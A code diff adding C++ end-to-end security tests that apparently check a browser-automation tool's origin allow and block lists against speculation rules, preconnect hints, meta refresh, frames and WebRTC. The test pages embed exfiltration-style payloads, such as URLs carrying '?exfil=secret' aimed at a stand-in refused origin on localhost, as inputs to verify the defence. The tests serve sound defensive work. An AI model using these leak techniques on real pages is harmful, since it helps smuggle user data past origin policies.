@@ -2038,3 +2038,124 @@ TEST(SecurityE2E, HugeConsoleMessagesAreBoundedAndTheNextCallsStayFast) {
         EXPECT_LT(ms_since(t1), bound.count()) << path;
     }
 }
+
+namespace {
+
+// A UDP socket on 127.0.0.1 that counts the datagrams it received (STUN/TURN over UDP).
+struct udp_listener {
+    int fd = -1;
+    std::uint16_t port = 0;
+    udp_listener() {
+        fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
+        sockaddr_in addr{};
+        addr.sin_family = AF_INET;
+        addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+        if (fd < 0 || ::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) throw std::runtime_error("udp_listener: bind");
+        socklen_t len = sizeof addr;
+        ::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len);
+        port = ntohs(addr.sin_port);
+    }
+    udp_listener(const udp_listener&) = delete;
+    udp_listener& operator=(const udp_listener&) = delete;
+    ~udp_listener() { ::close(fd); }
+    std::size_t received() {
+        char buf[2048];
+        while (::recv(fd, buf, sizeof buf, 0) > 0) ++count;
+        return count;
+    }
+    std::size_t count = 0;
+};
+
+}  // namespace
+
+TEST(SecurityE2E, SpeculationRulesNeverReachARefusedOrigin) {
+    http_server a, b;
+    b.fallback([](const http_request&) { return http_response::html(page("B", "<p>on B</p>")); });
+    const std::string B = b.origin();
+    a.route("/ran", http_response::html(page("ran", "<p>ran</p>")));
+    // a list rule in the page, and a prerender rule inserted from script
+    a.route("/list", http_response::html(page("List", R"(<p>list rules</p>
+<script type=speculationrules>{"prefetch":[{"source":"list","urls":[")" + B + R"(/x?exfil=secret-1"],"eagerness":"immediate"}]}</script>
+<script>const s = document.createElement('script'); s.type = 'speculationrules';
+s.textContent = JSON.stringify({prerender: [{source: 'list', urls: [')" + B + R"(/pr?exfil=secret-2'], eagerness: 'immediate'}]});
+document.head.append(s); fetch('/ran');</script>)")));
+    // the second variant: document rules over the page's own links, eager on load
+    a.route("/doc", http_response::html(page("Doc", R"(<p>document rules</p><a href=")" + B + R"(/linked?exfil=secret-3">a link</a>
+<script type=speculationrules>{"prefetch":[{"source":"document","where":{"selector_matches":"a"},"eagerness":"immediate"}],
+"prerender":[{"source":"document","where":{"selector_matches":"a"},"eagerness":"eager"}]}</script><script>fetch('/ran')</script>)")));
+    for (bool blocked_list : {false, true}) {
+        auto o = fast_options();
+        if (blocked_list) o.policy.blocked_origins = {B};
+        else o.policy.allowed_origins = {a.origin()};
+        br::browser br{o};
+        for (const char* path : {"/list", "/doc"}) {
+            const std::size_t ran = a.hits("/ran");
+            ASSERT_TRUE(br.navigate(a.url(path)).has_value()) << path;
+            ASSERT_TRUE(a.wait_for_hits("/ran", ran + 1, 5000ms)) << path;  // the page's scripts ran
+            EXPECT_FALSE(within(br, 2000ms, [&] { return b.connections() > 0; }))
+                << path << ": B saw " << b.connections() << " connections, " << b.requests().size() << " requests";
+        }
+    }
+    EXPECT_EQ(b.requests().size(), 0U);
+}
+
+TEST(SecurityE2E, NoBareConnectionToARefusedOrigin) {
+    // each of these made Chromium open a TCP connection to B (preconnect) although interception
+    // refused the request, or no request followed at all
+    http_server a, b;
+    b.fallback([](const http_request&) { return http_response::html(page("B", "<p>on B</p>")); });
+    const std::string B = b.origin();
+    a.route("/ran", http_response::html(page("ran", "<p>ran</p>")));
+    a.route("/tags", http_response::html(page("Tags", "<link rel=preconnect href='" + B + "'><link rel=dns-prefetch href='" + B + "'>"
+        "<object data='" + B + "/obj'></object><embed src='" + B + "/emb'>"
+        "<iframe srcdoc=\"<script>location.href='" + B + "/srcdoc'</script>\"></iframe>"
+        "<div style='height:3000px'></div><iframe loading=lazy src='" + B + "/lazy'></iframe><script>onload = () => fetch('/ran')</script>")));
+    a.route("/refresh", http_response::html("<!doctype html><html><head><meta http-equiv=refresh content='0;url=" + B +
+                                            "/refreshed'><title>Refresh</title></head><body><p>refresh</p><script>fetch('/ran')</script></body></html>"));
+    // the second variant: a link pressed (Chromium preconnects on mouse down), and a scrolled-to lazy frame
+    a.route("/press", http_response::html(page("Press", "<a href='" + B + "/pressed'>press me</a><script>fetch('/ran')</script>")));
+    auto o = fast_options();
+    o.policy.allowed_origins = {a.origin()};
+    br::browser br{o};
+    for (const char* path : {"/tags", "/refresh", "/press"}) {
+        const std::size_t ran = a.hits("/ran");
+        auto nav = br.navigate(a.url(path));
+        ASSERT_TRUE(nav.has_value()) << path << nav.error().to_text();
+        ASSERT_TRUE(a.wait_for_hits("/ran", ran + 1, 5000ms)) << path;
+        if (std::string(path) == "/press") (void)br.click(ref_on(nav->snapshot, "press me"));
+        if (std::string(path) == "/tags") (void)br.press("End");
+        EXPECT_FALSE(within(br, 2000ms, [&] { return b.connections() > 0; })) << path << ": B saw " << b.connections() << " connections";
+    }
+    EXPECT_TRUE(has_blocked(br.blocked_requests(), "/refreshed", "allowed_origins")) << blocked_list(br.blocked_requests());
+    EXPECT_EQ(b.requests().size(), 0U);
+}
+
+TEST(SecurityE2E, WebRtcReachesNoAddressUnderOriginLists) {
+    http_server a, turn;
+    udp_listener stun;
+    const std::string ice = "[{urls: 'stun:127.0.0.1:" + std::to_string(stun.port) + "'}, {urls: 'turn:127.0.0.1:" +
+                            std::to_string(stun.port) + "?transport=udp', username: 'u', credential: 'p'}, {urls: 'turn:127.0.0.1:" +
+                            std::to_string(turn.port()) + "?transport=tcp', username: 'u', credential: 'p'}]";
+    const std::string attempt = "(w, tag) => { try { const pc = new w.RTCPeerConnection({iceServers: " + ice +
+                                "}); pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o));"
+                                " fetch('/made?' + tag); } catch (e) { fetch('/refused?' + tag); } }";
+    a.route("/", http_response::html(page("RTC", "<p>rtc</p><script>(" + attempt + ")(window, 'page')</script>")));
+    // the second variant: the constructor of a fresh frame's window, and of a same-origin frame
+    a.route("/frames", http_response::html(page("Frames", "<iframe src='/inner'></iframe><script>const f = document.createElement('iframe');"
+        "document.body.append(f); (" + attempt + ")(f.contentWindow, 'fresh')</script>")));
+    a.route("/inner", http_response::html(page("Inner", "<script>(" + attempt + ")(window, 'inner')</script>")));
+    auto o = fast_options();
+    o.policy.blocked_origins = {"*.ads.test"};  // any origin list puts WebRTC off
+    br::browser br{o};
+    ASSERT_TRUE(br.navigate(a.url("/")).has_value());
+    ASSERT_TRUE(a.wait_for_hits("/refused", 1, 5000ms)) << "made: " << a.hits("/made");
+    ASSERT_TRUE(br.navigate(a.url("/frames")).has_value());
+    ASSERT_TRUE(a.wait_for_hits("/refused", 3, 5000ms)) << "made: " << a.hits("/made");
+    EXPECT_EQ(a.hits("/made"), 0U);
+    EXPECT_FALSE(within(br, 2000ms, [&] { return stun.received() > 0 || turn.connections() > 0; }))
+        << "UDP datagrams " << stun.received() << ", TCP connections " << turn.connections();
+    // without origin lists WebRTC is the page's (nothing to enforce)
+    br::browser free{fast_options()};
+    ASSERT_TRUE(free.navigate(a.url("/")).has_value());
+    EXPECT_TRUE(a.wait_for_hits("/made", 1, 5000ms));
+}
